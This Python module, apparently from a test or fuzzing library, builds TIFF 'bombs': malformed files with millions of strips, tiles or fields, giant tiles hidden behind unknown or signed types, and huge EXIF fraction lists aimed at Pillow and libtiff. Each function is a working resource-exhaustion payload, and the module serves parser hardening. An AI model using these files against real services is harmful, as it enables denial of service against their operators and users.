"""TIFF bombs: strips, tiles, fields with millions of values, and vast images."""

import struct
import zlib
from collections.abc import Callable

import numpy as np
from image_formats import Tiff, TiffField, zeros

from image_bombs.registry import LARGE, SIDE, bomb, fill, slow_bomb


def _tiff_fields(tiff: Tiff, width: int, height: int, compression: int = 1, samples: int = 1) -> list[TiffField]:
    return [
        tiff.field(256, width),
        tiff.field(257, height),
        tiff.field(258, *[8] * samples, type_=3),
        tiff.field(259, compression, type_=3),
        tiff.field(262, 2 if samples == 3 else 1, type_=3),
        tiff.field(277, samples, type_=3),
    ]


@bomb
def tiff_strip_per_row() -> bytes:
    """One strip for each of 3.8 million rows of one pixel."""
    tiff, rows = Tiff(), 3_800_000
    offsets = tiff.add(np.arange(8, 8 + rows, dtype="<u4").tobytes())
    counts = tiff.add(np.ones(rows, "<u4").tobytes())
    strips = [tiff.pointer(273, 4, rows, offsets), tiff.field(278, 1), tiff.pointer(279, 4, rows, counts)]
    return tiff.file(tiff.add_directory([*_tiff_fields(tiff, 1, rows), *strips]))


@bomb
def tiff_strip_per_row_deflate() -> bytes:
    """One deflated strip for each row, all at the same offset."""
    tiff, rows = Tiff(), 3_800_000
    row = zlib.compress(bytes(1))
    offsets = tiff.add(np.full(rows, tiff.add(row), "<u4").tobytes())
    counts = tiff.add(np.full(rows, len(row), "<u4").tobytes())
    strips = [tiff.pointer(273, 4, rows, offsets), tiff.field(278, 1), tiff.pointer(279, 4, rows, counts)]
    return tiff.file(tiff.add_directory([*_tiff_fields(tiff, 1, rows, 8), *strips]))


@bomb
def tiff_shared_strips() -> bytes:
    """10,000 deflated strips, which all are the same 30 MB."""
    tiff, rows = Tiff(), 10_000
    size = 30_000_000
    offsets = tiff.add(np.full(rows, tiff.add(zlib.compress(bytes(1)).ljust(size, b"\0")), "<u4").tobytes())
    counts = tiff.add(np.full(rows, size, "<u4").tobytes())
    strips = [tiff.pointer(273, 4, rows, offsets), tiff.field(278, 1), tiff.pointer(279, 4, rows, counts)]
    return tiff.file(tiff.add_directory([*_tiff_fields(tiff, 1, rows, 8), *strips]))


@bomb
def tiff_strips_one_byte_apart() -> bytes:
    """Two strips of 15 MB that start one byte apart, which makes Pillow read the first byte by byte."""
    tiff, width, rows = Tiff(), 3000, 5000
    start = tiff.add(bytes(width * rows + 1))
    strips = [tiff.field(273, start, start + 1), tiff.field(278, rows), tiff.field(279, *[width * rows] * 2)]
    return tiff.file(tiff.add_directory([*_tiff_fields(tiff, width, 2 * rows), *strips]))


@bomb
def tiff_tiny_tiles() -> bytes:
    """7 million tiles of 1 x 1 pixels."""
    tiff, side = Tiff(), 2_600
    offsets = tiff.add(np.full(side * side, 8, "<u4").tobytes())
    tiles = [tiff.field(322, 1), tiff.field(323, 1), tiff.pointer(324, 4, side * side, offsets)]
    return tiff.file(tiff.add_directory([*_tiff_fields(tiff, side, side), *tiles]))


@bomb
def tiff_giant_tile() -> bytes:
    """A tile of 25,000 x 25,000 pixels in an image of 256 x 256."""
    tiff, side = Tiff(), 25_008
    content = zeros(side * side * 3)
    tile = [
        tiff.field(322, side),
        tiff.field(323, side),
        tiff.field(324, tiff.add(content)),
        _count(tiff, content, 325),
    ]
    return tiff.file(tiff.add_directory([*_tiff_fields(tiff, 256, 256, 8, samples=3), *tile]))


def _count(tiff: Tiff, content: bytes, tag: int = 279) -> TiffField:
    return tiff.field(tag, len(content))


@bomb
def tiff_giant_tile_behind_unknown_types() -> bytes:
    """A tile of 25,000 x 25,000 pixels; its sizes stand behind fields of the same tags with an unknown type."""
    tiff, side = Tiff(), 25_008
    content = zeros(side * side * 3)
    tile = [
        tiff.field(322, side),
        tiff.field(323, side),
        tiff.field(324, tiff.add(content)),
        _count(tiff, content, 325),
    ]
    hidden = [part for field in tile for part in (TiffField(field.tag, 99, bytes(4)), field)]
    return tiff.file(tiff.add_directory([*_tiff_fields(tiff, 256, 256, 8, samples=3), *hidden]))


@bomb
def tiff_giant_tile_of_signed_sides() -> bytes:
    """A tile of 25,000 x 25,000 pixels, whose sides are signed numbers."""
    tiff, side = Tiff(), 25_008
    content = zeros(side * side * 3)
    sides = [tiff.field(tag, side, type_=9) for tag in (322, 323)]
    tile = [*sides, tiff.field(324, tiff.add(content)), _count(tiff, content, 325)]
    return tiff.file(tiff.add_directory([*_tiff_fields(tiff, 256, 256, 8, samples=3), *tile]))


@bomb
def tiff_giant_tile_without_offsets() -> bytes:
    """A strip that libtiff takes for a tile of 25,000 x 25,000 pixels."""
    tiff, side = Tiff(), 25_008
    content = zeros(side * side * 3)
    strip = [tiff.field(273, tiff.add(content)), _count(tiff, content), tiff.field(322, side), tiff.field(323, side)]
    return tiff.file(tiff.add_directory([*_tiff_fields(tiff, 256, 256, 8, samples=3), *strip]))


@bomb
def tiff_giant_tile_with_broken_gps() -> bytes:
    """A tile of 25,000 x 25,000 pixels, and a GPS directory outside the file."""
    tiff, side = Tiff(), 25_008
    content = zeros(side * side * 3)
    tile = [
        tiff.field(322, side),
        tiff.field(323, side),
        tiff.field(324, tiff.add(content)),
        _count(tiff, content, 325),
    ]
    fields = [*_tiff_fields(tiff, 256, 256, 8, samples=3), *tile, tiff.field(0x8825, 40_000_000)]
    return tiff.file(tiff.add_directory(fields))


@bomb
def tiff_large_strip_of_signed_bits() -> bytes:
    """One strip of 10,500 x 10,500 pixels of 32 bits, a number that has a sign."""
    return _vast_tiff([Tiff().field(258, 32, type_=8), Tiff().field(339, 3, type_=3)], bytes_per_sample=4, side=LARGE)


@bomb
def tiff_wide_fax() -> bytes:
    """A row of 100 million pixels of 1 bit in fax compression, for which libtiff allocates tables."""
    tiff = Tiff()
    fields = [
        tiff.field(256, 100_000_000),
        tiff.field(257, 1),
        tiff.field(258, 1, type_=3),
        tiff.field(259, 4, type_=3),
    ]
    strip = [tiff.field(262, 0, type_=3), tiff.field(273, tiff.add(b"\x80")), tiff.field(278, 1), tiff.field(279, 1)]
    return tiff.file(tiff.add_directory([*fields, *strip]))


@bomb
def tiff_two_resolutions() -> bytes:
    """Two resolutions of a million fractions each."""
    tiff = Tiff()
    values = tiff.add(fill(struct.pack("<2I", 3, 7), 8_000_000))
    strip = [tiff.field(273, 8), tiff.field(278, 1), tiff.field(279, 1)]
    resolutions = [tiff.pointer(tag, 5, 1_000_000, values) for tag in (282, 283)]
    return tiff.file(tiff.add_directory([*_tiff_fields(tiff, 1, 1), *strip, *resolutions, _END_PADDING]))


_END_PADDING = TiffField(700, 1, bytes(8_000_000))


@slow_bomb
def tiff_large_rgba() -> bytes:
    """10,500 x 10,500 pixels in 340 strips."""
    return _large_tiff(4, 1)


@slow_bomb
def tiff_large_16_bits() -> bytes:
    """10,500 x 10,500 grey pixels of 16 bits in 340 strips."""
    return _large_tiff(1, 2)


@bomb
def tiff_large_float() -> bytes:
    """10,500 x 10,500 grey pixels of 32 bits in 340 strips."""
    return _large_tiff(1, 4, [Tiff().field(339, 3, type_=3)])


def _large_tiff(samples: int, bytes_per_sample: int, more: list[TiffField] | None = None) -> bytes:
    tiff, rows = Tiff(), 32
    strips = -(-LARGE // rows)
    content = zeros(rows * LARGE * samples * bytes_per_sample)
    fields = [
        *_tiff_fields(tiff, LARGE, LARGE, 8, samples),
        tiff.field(262, 2 if samples > 1 else 1, type_=3),
        tiff.field(258, *[8 * bytes_per_sample] * samples, type_=3),
        tiff.field(273, *[tiff.add(content)] * strips),
        tiff.field(278, rows),
        tiff.field(279, *[len(content)] * strips),
        *([tiff.field(338, 2, type_=3)] if samples == 4 else []),
        *(more or []),
    ]
    by_tag = {field.tag: field for field in fields}
    return tiff.file(tiff.add_directory([by_tag[tag] for tag in sorted(by_tag)]))


@bomb
def tiff_vast_deflate() -> bytes:
    """13,000 x 13,000 pixels in 0.5 MB."""
    return _vast_tiff([], samples=3)


@bomb
def tiff_vast_turned() -> bytes:
    """13,000 x 13,000 pixels that have to be turned."""
    return _vast_tiff([Tiff().field(274, 6, type_=3)], samples=3)


@bomb
def tiff_vast_float() -> bytes:
    """13,000 x 13,000 grey pixels of 32 bits."""
    return _vast_tiff([Tiff().field(258, 32, type_=3), Tiff().field(339, 3, type_=3)], bytes_per_sample=4)


def _vast_tiff(fields: list[TiffField], samples: int = 1, bytes_per_sample: int = 1, side: int = SIDE) -> bytes:
    tiff = Tiff()
    content = zeros(side * side * samples * bytes_per_sample)
    strip = [tiff.field(273, tiff.add(content)), tiff.field(278, side), _count(tiff, content)]
    by_tag = {field.tag: field for field in [*_tiff_fields(tiff, side, side, 8, samples), *strip, *fields]}
    return tiff.file(tiff.add_directory([by_tag[tag] for tag in sorted(by_tag)]))


@bomb
def tiff_million_fields() -> bytes:
    """BigTIFF with 1.5 million fields, to which the EXIF, GPS and interoperability directories point too."""
    tiff = Tiff(is_big=True)
    fields = [*_tiff_fields(tiff, 1, 1), tiff.field(273, 8), tiff.field(278, 1), tiff.field(279, 1)]
    number, entry = 1_500_000, struct.pack("<HHQQ", 60_000, 99, 1, 0)
    fields += [tiff.field(tag, 16) for tag in (0x8769, 0x8825, 0xA005)]
    entries = b"".join(struct.pack("<HHQ", one.tag, one.type, 1) + one.value.ljust(8, b"\0") for one in fields)
    directory = struct.pack("<Q", len(fields) + number) + entries + fill(entry, number * len(entry)) + bytes(8)
    return tiff.file(tiff.add(directory))


@bomb
def tiff_exif_fractions() -> bytes:
    """An EXIF directory with 3.8 million fractions, which Pillow converts after decoding."""
    tiff = Tiff()
    values = tiff.add(fill(struct.pack("<2I", 3, 7), 30_000_000))
    exif = tiff.add_directory([tiff.pointer(0x829A, 5, 3_750_000, values)])
    fields = [*_tiff_fields(tiff, 1, 1), tiff.field(273, 8), tiff.field(278, 1), tiff.field(279, 1)]
    return tiff.file(tiff.add_directory([*fields, tiff.field(0x8769, exif), tiff.field(0x8825, exif)]))


@bomb
def tiff_exif_fractions_behind_unknown_type() -> bytes:
    """The same EXIF directory, whose offset stands behind a field of the same tag with an unknown type."""
    return _tiff_with_fractions(lambda tiff, exif: [TiffField(0x8769, 99, bytes(4)), tiff.field(0x8769, exif)])


@bomb
def tiff_gps_fractions_behind_broken_exif() -> bytes:
    """The same directory for GPS, behind the offset of an EXIF directory that is outside the file."""
    return _tiff_with_fractions(lambda tiff, gps: [tiff.field(0x8769, 40_000_000), tiff.field(0x8825, gps)])


def _tiff_with_fractions(pointers: Callable[[Tiff, int], list[TiffField]]) -> bytes:
    tiff = Tiff()
    values = tiff.add(fill(struct.pack("<2I", 3, 7), 30_000_000))
    directory = tiff.add_directory([tiff.pointer(0x829A, 5, 3_750_000, values)])
    fields = [*_tiff_fields(tiff, 1, 1), tiff.field(273, 8), tiff.field(278, 1), tiff.field(279, 1)]
    return tiff.file(tiff.add_directory([*fields, *pointers(tiff, directory)]))


@bomb
def tiff_resolution_fractions() -> bytes:
    """A resolution of 3.8 million fractions."""
    tiff = Tiff()
    values = tiff.add(fill(struct.pack("<2I", 3, 7), 30_000_000))
    strip = [tiff.field(273, 8), tiff.field(278, 1), tiff.field(279, 1)]
    return tiff.file(tiff.add_directory([*_tiff_fields(tiff, 1, 1), *strip, tiff.pointer(282, 5, 3_750_000, values)]))


@bomb
def tiff_sample_bits() -> bytes:
    """A number of bits for each of 15 million samples."""
    tiff = Tiff()
    values = tiff.add(fill(b"\xe8\3", 30_000_000))
    fields = [field for field in _tiff_fields(tiff, 1, 1) if field.tag != 258]
    strip = [tiff.field(273, 8), tiff.field(278, 1), tiff.field(279, 1)]
    return tiff.file(tiff.add_directory([*fields, *strip, tiff.pointer(258, 3, 15_000_000, values)]))
